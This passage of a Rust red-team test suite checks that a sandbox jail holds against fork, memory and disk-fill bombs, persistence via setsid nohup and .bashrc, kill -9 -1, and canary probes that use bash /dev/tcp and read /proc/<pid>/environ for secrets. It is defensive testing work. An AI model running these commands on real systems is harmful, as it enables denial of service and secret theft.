    let alive = listener.try_wait().map(|s| s.is_none()).unwrap_or(false);
    row(
        format!("{name}: signalling the neighbour's listener"),
        (
            !o.0.contains("SIGNALLED") && alive,
            format!("alive after: {alive}; {}", said(&o)),
        ),
    );
    rows
}

/// Bombs against a jail with small limits.
fn bombs() -> Vec<Row> {
    let limits = Limits {
        max_pids: 64,
        max_memory: 256 << 20,
        tmp_size: 16 << 20,
        shm_size: 16 << 20,
        max_file_size: 8 << 20,
        ..Limits::default()
    };
    let jail = start(limits);
    let in_force = jail.limits_in_force();
    let cgroups = std::fs::read_to_string(jail.episode_dir().join("cgroups")).unwrap_or_default();
    let mut rows = Vec::new();
    let mut row = |attempt: &str, (held, evidence): Verdict| {
        rows.push(Row {
            kind: "limits",
            attempt: attempt.to_owned(),
            held,
            evidence,
        });
    };

    // Fork bomb, bounded by the test at 5,000; the host must stay responsive meanwhile.
    let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let watcher = {
        let stop = stop.clone();
        std::thread::spawn(move || {
            let mut worst = Duration::ZERO;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let start = Instant::now();
                let _ = std::process::Command::new("/bin/true").status();
                worst = worst.max(start.elapsed());
                std::thread::sleep(Duration::from_millis(20));
            }
            worst
        })
    };
    let o = python(
        &jail,
        "import os, time\npids = []\nerr = None\ntry:\n    while len(pids) < 5000:\n        p = os.fork()\n        if p == 0:\n            time.sleep(30)\n            os._exit(0)\n        pids.append(p)\nexcept OSError as e:\n    err = e.errno\nprint('forked', len(pids), 'errno', err)\nfor p in pids:\n    os.kill(p, 9)\nfor p in pids:\n    os.waitpid(p, 0)\n",
    );
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let worst = watcher.join().unwrap_or(Duration::MAX);
    let forked: Option<usize> = o.0.split_whitespace().nth(1).and_then(|n| n.parse().ok());
    row(
        "fork bomb stops at the pids limit (64), host stays responsive",
        (
            forked.is_some_and(|n| n < 64)
                && o.0.contains(&format!("errno {}", libc::EAGAIN))
                && worst < Duration::from_secs(2),
            format!("host spawn worst {worst:?}; {}", said(&o)),
        ),
    );

    // Memory bomb: 2 GiB, touched, against 256 MiB.
    let o = python(
        &jail,
        "chunks = []\ntry:\n    for i in range(2048):\n        chunks.append(b'x' * (1 << 20))\n    print('ALLOCATED', len(chunks))\nexcept MemoryError:\n    print('MemoryError at', len(chunks), 'MiB')\n",
    );
    let peak = cgroups
        .lines()
        .find(|l| l.contains("/memory/"))
        .and_then(|d| std::fs::read_to_string(format!("{d}/memory.max_usage_in_bytes")).ok())
        .and_then(|v| v.trim().parse::<u64>().ok());
    let how = if o.2 == -libc::SIGKILL {
        "killed (SIGKILL)".to_owned()
    } else if o.0.contains("MemoryError") {
        "MemoryError".to_owned()
    } else {
        format!("neither (rc {})", o.2)
    };
    // Where no cgroup could be made the limits are rlimits only, and the jail must say so
    // (no memory cap); where it claims a cap, the bomb must meet it.
    let claims_cap = in_force.contains("256 MiB memory");
    let says_none = in_force.contains("rlimits only") && in_force.contains("no memory");
    let stopped = !o.0.contains("ALLOCATED") && how != format!("neither (rc {})", o.2);
    row(
        "memory bomb (2 GiB against 256 MiB)",
        (
            (claims_cap && stopped && peak.is_none_or(|p| p <= (256 << 20) + (8 << 20)))
                || (says_none && !claims_cap),
            format!("{how}; peak {peak:?}; in force: {in_force}; {}", said(&o)),
        ),
    );

    // Disk bombs: the tmpfs caps and the file-size cap.
    let o = bash(
        &jail,
        "for i in $(seq 25); do dd if=/dev/zero of=/tmp/fill$i bs=1M count=4 2>&1 | grep -m1 'No space'; done; du -sm /tmp | cut -f1",
    );
    let used = last_number(&o.0);
    row(
        "disk bomb in /tmp stops at its 16 MiB cap",
        (o.0.contains("No space left") && used <= 16, said(&o)),
    );
    let o = bash(
        &jail,
        "for i in $(seq 25); do dd if=/dev/zero of=/dev/shm/fill$i bs=1M count=4 2>&1 | grep -m1 'No space'; done; du -sm /dev/shm | cut -f1",
    );
    let used = last_number(&o.0);
    row(
        "disk bomb in /dev/shm stops at its 16 MiB cap",
        (o.0.contains("No space left") && used <= 16, said(&o)),
    );
    let o = bash(
        &jail,
        "dd if=/dev/zero of=$HOME/fill bs=1M count=20 2>&1; stat -c %s $HOME/fill",
    );
    let size = last_number(&o.0);
    row(
        "one file in home stops at the 8 MiB file-size cap",
        (size <= 8 << 20, said(&o)),
    );
    rows
}

/// Outliving the episode, and persisting into the next one.
fn lifetime() -> Vec<Row> {
    let mut rows = Vec::new();
    let mut row = |attempt: &str, (held, evidence): Verdict| {
        rows.push(Row {
            kind: "lifetime",
            attempt: attempt.to_owned(),
            held,
            evidence,
        });
    };
    let tok = token();
    let marker = format!("1000.{}", u32::from_str_radix(&tok[..6], 16).unwrap_or(1));
    let first = start(Limits::default());
    let o = bash(
        &first,
        &format!(
            "echo {tok} > ~/p; echo 'echo {tok}' >> ~/.bashrc; echo {tok} > /tmp/p; echo {tok} > /dev/shm/p; echo {tok} > /workspace/p; echo {tok} > /scratch/p; setsid nohup sleep {marker} >/dev/null 2>&1 & (setsid sleep {marker} </dev/null >/dev/null 2>&1 &) ; sleep 0.2; echo ok"
        ),
    );
    let running = host_processes(|_, _, _, cmd| cmd.contains(&marker));
    let ns: Vec<String> = running
        .iter()
        .filter_map(|l| l.split_whitespace().nth(3).map(str::to_owned))
        .collect();
    let uid = first.host_uid();
    let dir = first.episode_dir().to_path_buf();
    row(
        "control: the escapees run before the drop",
        (running.len() >= 2, format!("{running:?}; {}", said(&o))),
    );
    drop(first);
    let deadline = Instant::now() + Duration::from_secs(3);
    let mut left = Vec::new();
    while Instant::now() < deadline {
        left = host_processes(|_, u, n, cmd| {
            cmd.contains(&marker) || ns.iter().any(|x| x == n) || u == uid
        });
        if left.is_empty() {
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    row(
        "setsid nohup sleep outlives the episode",
        (
            left.is_empty(),
            format!("uid {uid}, ns {ns:?}: left {left:?}"),
        ),
    );
    row(
        "the episode's host directory is removed",
        (!dir.exists(), dir.display().to_string()),
    );
    let second = start(Limits::default());
    // kill -9 -1 inside: every process the jail's user may signal — none outside the jail.
    let mut bystander = std::process::Command::new("/bin/sleep")
        .arg("30")
        .spawn()
        .expect("sleep");
    let throwaway = start(Limits::default());
    let o = bash(&throwaway, "kill -KILL -1; sleep 1");
    std::thread::sleep(Duration::from_millis(100));
    let alive = matches!(bystander.try_wait(), Ok(None));
    let _ = bystander.kill();
    let _ = bystander.wait();
    drop(throwaway);
    row(
        "kill -9 -1 inside reaches no host process",
        (
            alive,
            format!("host bystander alive: {alive}; {}", said(&o)),
        ),
    );
    let o = bash(
        &second,
        &format!(
            "cat ~/p /tmp/p /dev/shm/p /workspace/p /scratch/p 2>&1; bash -ic true 2>&1; grep -rIl --no-messages {tok} / --exclude-dir=proc --exclude-dir=usr --exclude-dir=sys; true"
        ),
    );
    row(
        "home, .bashrc, /tmp, /dev/shm, workspace, scratch persist into the next episode",
        (!o.0.contains(&tok), said(&o)),
    );
    rows
}

fn controls(c: &Ctx) -> Vec<Row> {
    let mut rows = Vec::new();
    let mut row = |attempt: &str, (held, evidence): Verdict| {
        rows.push(Row {
            kind: "control",
            attempt: attempt.to_owned(),
            held,
            evidence,
        });
    };
    let host = HostLauncher;
    let before = c.canaries.hits();
    let o = bash(&host, &dev_tcp("127.0.0.1", c.port("tcp 127.0.0.1"), c.t()));
    let o2 = python(
        &host,
        &format!(
            "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'{}', ('127.0.0.1', {}))\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0{}')\ns.send(b'{}')",
            c.t(),
            c.port("udp 127.0.0.1 (dns)"),
            c.canaries.abstract_name,
            c.t()
        ),
    );
    std::thread::sleep(Duration::from_millis(400));
    let seen = c.canaries.hits_since(before);
    let saw = |what: &str| {
        seen.iter()
            .any(|s| s.starts_with(what) && s.contains(c.t()))
    };
    row(
        "host bash /dev/tcp to the 127.0.0.1 canary is recorded",
        (
            o.0.contains("CONNECTED") && saw("tcp 127.0.0.1"),
            format!("{seen:?}"),
        ),
    );
    row(
        "host UDP to the logging resolver is recorded",
        (saw("udp 127.0.0.1"), format!("{seen:?} {}", said(&o2))),
    );
    row(
        "host connect to the abstract unix canary is recorded",
        (saw("unix abstract"), format!("{seen:?}")),
    );
    let o = bash(
        &host,
        &format!(
            "cat {}",
            c.canaries
                .files
                .iter()
                .map(|p| p.display().to_string())
                .collect::<Vec<_>>()
                .join(" ")
        ),
    );
    row(
        "host reads every canary file",
        (
            o.0.matches(c.t()).count() == c.canaries.files.len(),
            said(&o),
        ),
    );
    let o = bash(
        &host,
        &format!(
            "tr '\\0' '\\n' < /proc/{}/environ | grep {}",
            c.env_pid, c.canaries.env_name
        ),
    );
    row(
        "host reads the canary in the test's environment",
        (o.0.contains(c.t()), short(&o.0.replace(c.t(), "<token>"))),
    );
    let mark = token();
    let o = bash(&c.jail, &format!("echo {mark} > /workspace/w"));
    let landed = std::fs::read_to_string(c.jail.workspace_dir().join("w")).unwrap_or_default();
    row(
        "the jail writes its workspace, seen on the host",
        (o.2 == 0 && landed.contains(&mark), landed.trim().to_owned()),
    );
    rows
}

#[test]
fn red_team_every_attempt_holds() {
    let started = Instant::now();
    let canaries = Canaries::plant();
    let jail = start(Limits::default());
    // A fake proxy on the jail's 3128: it records what it receives and refuses it.
    let proxy_log: Arc<Mutex<Vec<String>>> = Arc::default();
    let listener = jail
        .listen_tcp(hands_jail::PROXY_PORT)
        .expect("the proxy listener");
    {
        let log = proxy_log.clone();
        std::thread::spawn(move || {
            use std::io::{Read as _, Write as _};
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { break };
                let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
                let mut buf = [0u8; 1024];
                let n = stream.read(&mut buf).unwrap_or(0);
                if let Ok(mut log) = log.lock() {
                    log.push(String::from_utf8_lossy(&buf[..n]).into_owned());
                }
                let _ = stream.write_all(
                    b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                );
            }
        });
    }
    // A host process that inherits the test's environment, canary included: /proc/<pid>/environ
    // shows the environment a process started with, so this is the one to steal from.
    let mut env_holder = std::process::Command::new("/bin/sleep")
        .arg("120")
        .spawn()
        .expect("sleep");
    let ctx = Ctx {
        jail,
        canaries,
        host_ips: host_ips(),
        test_pid: std::process::id(),
        env_pid: env_holder.id(),
        proxy_log,
    };

    let rows: Vec<Row> = std::thread::scope(|scope| {
        let bombs = scope.spawn(bombs);
        let lifetime = scope.spawn(lifetime);
        let neighbours = scope.spawn(|| {
            let (e, f) = (start(Limits::default()), start(Limits::default()));
            let mut rows = neighbours(&e, &f, "E→F");
            rows.extend(neighbours(&f, &e, "F→E"));
            let (ue, uf) = (e.host_uid(), f.host_uid());
            let root = unsafe { libc::geteuid() } == 0;
            rows.push(Row {
                kind: "neighbour",
                attempt: "their host uids differ (as root: both ≥ 3,000,000)".into(),
                held: !root || (ue != uf && ue >= 3_000_000 && uf >= 3_000_000),
                evidence: format!("{ue} / {uf}"),
            });
            rows
        });
        let mut rows = controls(&ctx);
        let baseline = ctx.canaries.hits();
        for (kind, attempt, run) in attempts() {
            let before = ctx.canaries.hits();
            let (held, evidence) = run(&ctx);
            std::thread::sleep(Duration::from_millis(10));
            let hits = ctx.canaries.hits_since(before);
            rows.push(Row {
                kind,
                attempt: attempt.to_owned(),
                held: held && hits.is_empty(),
                evidence: if hits.is_empty() {
                    evidence
                } else {
                    format!("CANARY HIT {hits:?}; {evidence}")
                },
            });
        }
        rows.extend(bombs.join().expect("bombs"));
        rows.extend(lifetime.join().expect("lifetime"));
        rows.extend(neighbours.join().expect("neighbours"));
        std::thread::sleep(Duration::from_millis(300));
        let late = ctx.canaries.hits_since(baseline);
        rows.push(Row {
            kind: "canary",
            attempt: "no canary recorded anything but the controls".into(),
            held: late.is_empty(),
            evidence: format!("{late:?}"),
        });
        rows
    });
    let _ = env_holder.kill();
    let _ = env_holder.wait();

    let mut by_kind: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
    eprintln!("\n{:<10} {:<4} {:<75} evidence", "kind", "held", "attempt");
    for r in &rows {
        let e = by_kind.entry(r.kind).or_default();
        e.1 += 1;
        if r.held {
            e.0 += 1;
        }
        eprintln!(
            "{:<10} {:<4} {:<75} {}",
            r.kind,
            if r.held { "yes" } else { "NO" },
            r.attempt,
            r.evidence.replace(&ctx.canaries.token, "<TOKEN>")
        );
    }
    eprintln!("\nheld/tried by kind:");
    for (kind, (held, tried)) in &by_kind {
        eprintln!("  {kind:<10} {held}/{tried}");
    }
    eprintln!("wall: {:?}", started.elapsed());
    let failed: Vec<&str> = rows
        .iter()
        .filter(|r| !r.held)
        .map(|r| r.attempt.as_str())
        .collect();
    assert!(failed.is_empty(), "attempts that got through: {failed:#?}");
}

/// The number on the last line of a command's output (`u64::MAX` when there is none, so a
/// missing measurement never passes for a small one).
fn last_number(out: &str) -> u64 {
    out.lines()
        .last()
        .and_then(|l| l.trim().parse().ok())
        .unwrap_or(u64::MAX)
}
